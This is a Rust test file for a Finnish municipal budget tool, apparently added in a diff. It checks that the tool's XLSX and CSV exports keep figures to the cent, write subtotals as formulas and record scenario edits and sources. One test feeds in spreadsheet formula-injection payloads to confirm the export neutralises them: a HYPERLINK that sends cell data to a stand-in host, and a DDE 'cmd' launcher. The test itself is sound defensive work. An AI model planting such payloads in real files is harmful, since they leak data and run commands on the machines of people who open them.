@@ -1,0 +1,382 @@
+//! Exports read back: the XLSX workbook (calamine) has the figures of the documents to the
+//! cent, subtotals and derived columns as formulas that give the same values, the scenario's
+//! edits and the source stated; text a spreadsheet would take for a formula is neutralised.
+
+#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
+
+use std::collections::BTreeMap;
+use std::io::Cursor;
+
+use calamine::{Data, Reader, Xlsx, open_workbook_from_rs};
+use raami::analysis::node_table;
+use raami::export::{About, Exported, workbook};
+use raami::i18n::Lang;
+use raami::import::{Options, import_file};
+use raami::scenario::spec::parse_edit;
+use raami::scenario::{Scenario, apply};
+
+/// The cells of one sheet by their A1 name: values, and formulas where there are any.
+struct Sheet {
+    values: BTreeMap<String, Data>,
+    formulas: BTreeMap<String, String>,
+}
+
+fn a1(row: u32, column: u32) -> String {
+    let mut letters = String::new();
+    let mut c = column;
+    loop {
+        letters.insert(0, char::from(b'A' + u8::try_from(c % 26).unwrap()));
+        if c < 26 {
+            break;
+        }
+        c = c / 26 - 1;
+    }
+    format!("{letters}{}", row + 1)
+}
+
+fn read(bytes: &[u8]) -> (Vec<String>, BTreeMap<String, Sheet>) {
+    let mut book: Xlsx<_> = open_workbook_from_rs(Cursor::new(bytes.to_vec())).unwrap();
+    let names = book.sheet_names();
+    let mut sheets = BTreeMap::new();
+    for name in &names {
+        let range = book.worksheet_range(name).unwrap();
+        let (r0, c0) = range.start().unwrap_or((0, 0));
+        let mut values = BTreeMap::new();
+        for (r, row) in range.rows().enumerate() {
+            for (c, cell) in row.iter().enumerate() {
+                if *cell != Data::Empty {
+                    let (r, c) = (
+                        r0 + u32::try_from(r).unwrap(),
+                        c0 + u32::try_from(c).unwrap(),
+                    );
+                    values.insert(a1(r, c), cell.clone());
+                }
+            }
+        }
+        let formula_range = book.worksheet_formula(name).unwrap();
+        let (f0, g0) = formula_range.start().unwrap_or((0, 0));
+        let mut formulas = BTreeMap::new();
+        for (r, row) in formula_range.rows().enumerate() {
+            for (c, cell) in row.iter().enumerate() {
+                if !cell.is_empty() {
+                    let (r, c) = (
+                        f0 + u32::try_from(r).unwrap(),
+                        g0 + u32::try_from(c).unwrap(),
+                    );
+                    formulas.insert(a1(r, c), cell.clone());
+                }
+            }
+        }
+        sheets.insert(name.clone(), Sheet { values, formulas });
+    }
+    (names, sheets)
+}
+
+fn float(data: &Data) -> f64 {
+    match data {
+        Data::Float(f) => *f,
+        Data::Int(i) => *i as f64,
+        other => panic!("not a number: {other:?}"),
+    }
+}
+
+/// Evaluates the formulas the export writes (sums and differences of cells, a ratio, a
+/// ratio less one, a yearly rate) from the sheet's values.
+fn evaluate(sheet: &Sheet, formula: &str) -> f64 {
+    let cell = |name: &str| float(&sheet.values[name.trim()]);
+    let f = formula.trim_start_matches('=');
+    if let Some(rest) = f.strip_prefix('(') {
+        // (T/B)^(1/n)-1
+        let (ratio, power) = rest.split_once(")^(1/").unwrap();
+        let (t, b) = ratio.split_once('/').unwrap();
+        let n: f64 = power.trim_end_matches(")-1").parse().unwrap();
+        return (cell(t) / cell(b)).powf(1.0 / n) - 1.0;
+    }
+    if let Some((t, b)) = f.split_once('/') {
+        return match b.strip_suffix("-1") {
+            Some(b) => cell(t) / cell(b) - 1.0,
+            None => cell(t) / cell(b),
+        };
+    }
+    // Terms joined by + and -.
+    let mut total = 0.0;
+    let mut sign = 1.0;
+    let mut term = String::new();
+    for ch in f.chars().chain(std::iter::once('+')) {
+        match ch {
+            '+' | '-' => {
+                if !term.is_empty() {
+                    total += sign * cell(&term);
+                    term.clear();
+                }
+                sign = if ch == '-' { -1.0 } else { 1.0 };
+            }
+            other => term.push(other),
+        }
+    }
+    total
+}
+
+/// The row of a line by its name in column A.
+fn row_of(sheet: &Sheet, name: &str) -> String {
+    sheet
+        .values
+        .iter()
+        .find(|(at, v)| at.starts_with('A') && **v == Data::String(name.to_string()))
+        .map(|(at, _)| at[1..].to_string())
+        .unwrap_or_else(|| panic!("no line {name}"))
+}
+
+#[test]
+fn the_workbook_has_the_documents_figures_live_formulas_and_the_scenario() {
+    let sample = raami::sample::heinola().unwrap();
+    let edit = parse_edit(&sample, "Varhaiskasvatus:Palvelujen ostot:TS2026:-5%").unwrap();
+    let scenario = Scenario {
+        edits: vec![edit],
+        ..Scenario::new("Säästöt", &sample)
+    };
+    let applied = apply(&sample, &scenario);
+    let sentences =
+        raami::scenario::summary::sentences(&sample, &scenario.edits, &applied.outcomes, Lang::Fi);
+    // With the change columns the app shows by default (the first column to the last).
+    let table = |node: &str| {
+        let columns = raami::analysis::table::node_columns(&applied.dataset, node);
+        let pair = raami::analysis::table::change_pair(&columns, None, None);
+        node_table(
+            &applied.dataset,
+            node,
+            pair.as_ref().map(|(b, t)| (b.as_str(), t.as_str())),
+        )
+    };
+    let varhais = table("varhaiskasvatus");
+    let top = table("hyvinvointitoimiala");
+    let about = About {
+        unit: "€".into(),
+        scenario: Some(("Säästöt".into(), sentences)),
+        link: Some("https://raami.example.fi/#/taulukko/heinola/varhaiskasvatus".into()),
+        ..About::default()
+    };
+    let bytes = workbook(
+        &[
+            Exported {
+                dataset: &applied.dataset,
+                table: &varhais,
+            },
+            Exported {
+                dataset: &applied.dataset,
+                table: &top,
+            },
+        ],
+        &about,
+        Lang::Fi,
+    )
+    .unwrap();
+    let (names, sheets) = read(&bytes);
+    assert_eq!(
+        names,
+        [
+            "Varhaiskasvatus",
+            "Hyvinvointitoimiala",
+            "Muutokset ja huomautukset",
+            "Lähde ja perusta"
+        ]
+    );
+    let sheet = &sheets["Varhaiskasvatus"];
+    // Header: Selite, TP 2022, TA 2023, TA 2024, TS 2025, TS 2026 (B … F).
+    assert_eq!(sheet.values["F5"], Data::String("TS 2026".into()));
+    // Seed 004, Varhaiskasvatus TS 2026: Palvelujen ostot −1 029 300, −5 % = 51 465 less.
+    let ostot = row_of(sheet, "Palvelujen ostot");
+    assert_eq!(float(&sheet.values[&format!("F{ostot}")]), -977_835.0);
+    assert_eq!(float(&sheet.values[&format!("B{ostot}")]), -1_082_747.0);
+    // Toimintakulut TS 2026 −8 721 800 + 51 465, a formula of its parts.
+    let kulut = row_of(sheet, "Toimintakulut");
+    let cell = format!("F{kulut}");
+    assert_eq!(float(&sheet.values[&cell]), -8_670_335.0);
+    assert!(
+        sheet.formulas.contains_key(&cell),
+        "Toimintakulut TS 2026 is a formula"
+    );
+    // Toimintakate TS 2026: −8 232 700 + 51 465.
+    let kate = row_of(sheet, "Toimintakate");
+    assert_eq!(float(&sheet.values[&format!("F{kate}")]), -8_181_235.0);
+    // Toimintatuotot TP 2022 is printed 955 046 while its parts sum to 955 047: the
+    // document's figure stays, as a number, not as a formula that would change it.
+    let tuotot = row_of(sheet, "Toimintatuotot");
+    assert_eq!(float(&sheet.values[&format!("B{tuotot}")]), 955_046.0);
+    assert!(!sheet.formulas.contains_key(&format!("B{tuotot}")));
+    // Every formula gives the value it carries.
+    let mut checked = 0;
+    for sheet in sheets.values() {
+        for (at, formula) in &sheet.formulas {
+            let cached = float(&sheet.values[at]);
+            let computed = evaluate(sheet, formula);
+            assert!(
+                (cached - computed).abs() <= 1e-9 * cached.abs().max(1.0),
+                "{at} {formula}: {cached} vs {computed}"
+            );
+            checked += 1;
+        }
+    }
+    assert!(checked > 100, "{checked} formulas");
+    // The edits and the source.
+    let edits = &sheets["Muutokset ja huomautukset"];
+    assert_eq!(
+        edits.values["A1"],
+        Data::String("Skenaario: Säästöt".into())
+    );
+    let Data::String(sentence) = &edits.values["B2"] else {
+        panic!()
+    };
+    assert!(
+        sentence
+            .replace('\u{a0}', " ")
+            .starts_with("1. Varhaiskasvatus, Palvelujen ostot, TS 2026: −5 %"),
+        "{sentence}"
+    );
+    let source = &sheets["Lähde ja perusta"];
+    assert!(
+        source.values.values().any(
+            |v| matches!(v, Data::String(s) if s.contains("#/taulukko/heinola/varhaiskasvatus"))
+        )
+    );
+}
+
+#[test]
+fn poikkeama_and_toteuma_are_formulas_of_the_follow_up() {
+    // Seed 003, Vaalit: Toimintakate TA 2025 −88 400, Toteuma 2025 −57 385, printed
+    // Poikkeama −31 015 and Toteuma % 64,92.
+    let name = "003_057b7abbdb0e3ebc.txt";
+    let bytes = std::fs::read(format!("tests/fixtures/{name}")).unwrap();
+    let dataset = import_file(name, &bytes, &Options::default())
+        .unwrap()
+        .remove(0)
+        .dataset;
+    let table = node_table(&dataset, "vaalit", None);
+    let book = workbook(
+        &[Exported {
+            dataset: &dataset,
+            table: &table,
+        }],
+        &About::default(),
+        Lang::Fi,
+    )
+    .unwrap();
+    let (names, sheets) = read(&book);
+    let sheet = &sheets[&names[0]];
+    let row = row_of(sheet, "Toimintakate");
+    let header = |at: &str| match &sheet.values[&format!("{at}5")] {
+        Data::String(s) => s.clone(),
+        other => panic!("{other:?}"),
+    };
+    let poikkeama = (b'B'..=b'H')
+        .map(char::from)
+        .find(|c| header(&c.to_string()).starts_with("Poikkeama"))
+        .unwrap();
+    let cell = format!("{poikkeama}{row}");
+    assert_eq!(float(&sheet.values[&cell]), -31_015.0);
+    assert!(sheet.formulas.contains_key(&cell));
+    assert_eq!(evaluate(sheet, &sheet.formulas[&cell]), -31_015.0);
+    let pct = format!("{}{row}", char::from(u8::try_from(poikkeama).unwrap() + 1));
+    assert_eq!(
+        (float(&sheet.values[&pct]) * 10_000.0).round() / 100.0,
+        64.92
+    );
+    assert!(sheet.formulas.contains_key(&pct));
+}
+
+#[test]
+fn cents_survive_the_csv_and_the_workbook() {
+    // Kauhava's income statement 2024 prints Verotulot TP 2024 33 595 351,41.
+    let name = "kauhava-tilinpaatos-2024-tuloslaskelma.txt";
+    let bytes = std::fs::read(format!("tests/fixtures/real/{name}")).unwrap();
+    let dataset = import_file(name, &bytes, &Options::default())
+        .unwrap()
+        .remove(0)
+        .dataset;
+    let root = dataset.roots().next().unwrap().id.clone();
+    let table = node_table(&dataset, &root, None);
+    let csv = raami::report::table_csv(&table, Lang::Fi);
+    assert!(
+        csv.lines()
+            .any(|l| l.starts_with("Verotulot;") && l.contains(";33595351,41")),
+        "{csv}"
+    );
+    let book = workbook(
+        &[Exported {
+            dataset: &dataset,
+            table: &table,
+        }],
+        &About::default(),
+        Lang::Fi,
+    )
+    .unwrap();
+    let (names, sheets) = read(&book);
+    let sheet = &sheets[&names[0]];
+    let row = row_of(sheet, "Verotulot");
+    let value = sheet
+        .values
+        .iter()
+        .filter(|(at, _)| at[1..] == row && !at.starts_with('A'))
+        .map(|(_, v)| float(v))
+        .find(|v| (v - 33_595_351.41).abs() < 0.001)
+        .unwrap();
+    // The double that comes back prints as the decimal the document has.
+    assert_eq!(value.to_string(), "33595351.41");
+}
+
+#[test]
+fn text_a_spreadsheet_would_run_is_neutralised() {
+    let mut dataset = raami::sample::heinola().unwrap();
+    let hostile = "=HYPERLINK(\"http://paha.example/?\"&A1,\"klikkaa\")";
+    dataset.name = hostile.to_string();
+    dataset.source = Some("+cmd|' /C calc'!A0".to_string());
+    if let Some(node) = dataset.org.iter_mut().find(|n| n.id == "varhaiskasvatus") {
+        node.name = "@SUM(1+1)".to_string();
+    }
+    let table = node_table(&dataset, "varhaiskasvatus", None);
+    let about = About {
+        notes: vec![("-Varhaiskasvatus".into(), "=1+1".into())],
+        ..About::default()
+    };
+    let book = workbook(
+        &[Exported {
+            dataset: &dataset,
+            table: &table,
+        }],
+        &about,
+        Lang::Fi,
+    )
+    .unwrap();
+    let (names, sheets) = read(&book);
+    // The texts are text cells, not formulas, with the quote prefix Excel keeps them by.
+    for sheet in sheets.values() {
+        for formula in sheet.formulas.values() {
+            assert!(
+                !formula.contains("HYPERLINK") && !formula.contains("cmd"),
+                "{formula}"
+            );
+        }
+    }
+    let notes = &sheets["Muutokset ja huomautukset"];
+    assert!(
+        notes
+            .values
+            .values()
+            .any(|v| *v == Data::String("=1+1".into()))
+    );
+    assert_eq!(names[0], "@SUM(1+1)");
+    let archive = zip::ZipArchive::new(Cursor::new(book.clone())).unwrap();
+    let mut archive = archive;
+    let mut styles = String::new();
+    std::io::Read::read_to_string(&mut archive.by_name("xl/styles.xml").unwrap(), &mut styles)
+        .unwrap();
+    assert!(styles.contains("quotePrefix=\"1\""), "{styles}");
+    // In CSV the same texts get a ' in front; numbers keep their minus.
+    assert_eq!(raami::export::neutralise(hostile), format!("'{hostile}"));
+    let csv = raami::report::table_csv(&table, Lang::Fi);
+    assert!(
+        csv.lines()
+            .any(|l| l.starts_with("Palvelujen ostot;-1082747;")),
+        "{csv}"
+    );
+}
